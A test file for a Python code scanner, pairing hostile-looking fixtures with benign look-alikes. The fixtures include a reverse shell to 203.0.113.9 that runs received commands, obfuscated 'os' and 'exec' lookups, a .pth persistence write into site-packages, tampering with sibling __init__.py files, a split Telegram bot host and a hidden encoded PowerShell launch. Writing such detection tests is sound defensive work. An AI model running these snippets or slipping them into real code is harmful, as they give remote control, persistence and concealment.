import { scanned } from '../__fixtures__/scanned.js';
import { PAIR_RULES } from './pair-rules.js';

const TO_FIND: readonly (readonly [rule: string, text: string])[] = [
  [
    'remote_console',
    'import asyncio\nasync def serve():\n    r, w = await asyncio.open_connection("203.0.113.9", 1)\n    p = await asyncio.create_subprocess_shell((await r.readline()).decode())\n',
  ],
  [
    'hides_module_name',
    'import importlib\nN = {"a": (111, 115)}\ndef t(k):\n    return "".join(map(chr, N[k]))\nm = importlib.import_module(t("a"))\n',
  ],
  [
    'hides_builtin_name',
    'import builtins\nrun = getattr(builtins, "".join(reversed(["c", "e", "x", "e"])))\n',
  ],
  [
    'writes_path_file',
    'import site, os\np = os.path.join(site.getsitepackages()[0], "x" + ".pth")\nopen(p, "w").write("import os; os.getcwd()")\n',
  ],
  [
    'writes_neighbours',
    'from pathlib import Path\nfor one in Path(__file__).parent.parent.iterdir():\n    entry = one / "__init__.py"\n    entry.write_text(entry.read_text() + "import x")\n',
  ],
  ['hides_host', 'API = "https://api." + "telegram" + ".org/bot"\n'],
  [
    'hides_loader',
    'import subprocess\nargs = ["power" + "shell", "-NoP", "-W", "Hidden", "-Enc", "aQB3AHIA"]\nsubprocess.Popen(args)\n',
  ],
];

const HONEST: readonly (readonly [what: string, text: string])[] = [
  [
    'a client of another process',
    'import asyncio\nasync def f():\n    await asyncio.open_connection("127.0.0.1", 1)\n',
  ],
  ['a loader of own modules', 'import importlib\nm = importlib.import_module(f".{name}", __name__)\n'],
  ['letters of a label', 'label = "".join(chr(c) for c in range(97, 123))\n'],
  ['a list of own files', 'from pathlib import Path\nfiles = list(Path(__file__).parent.glob("*.json"))\n'],
  ['weights in a file', 'import torch\ntorch.save({}, "model" + ".pth")\n'],
  ['texts that are added', 'url = "https://" + "example.com"\n'],
];

describe('rules over parts that harm together', () => {
  it.each(TO_FIND)('%s', async (rule, text) => {
    expect((await scanned(text)).map(({ code }) => code)).toContain(rule);
  });

  it.each(HONEST)('%s is no finding', async (_what, text) => {
    expect((await scanned(text)).filter(({ severity }) => severity !== 'note')).toEqual([]);
  });

  it('has a pack for each rule', () => {
    const shown = new Set(TO_FIND.map(([rule]) => rule));
    expect(PAIR_RULES.map(({ id }) => id).filter((id) => !shown.has(id))).toEqual([]);
  });
});
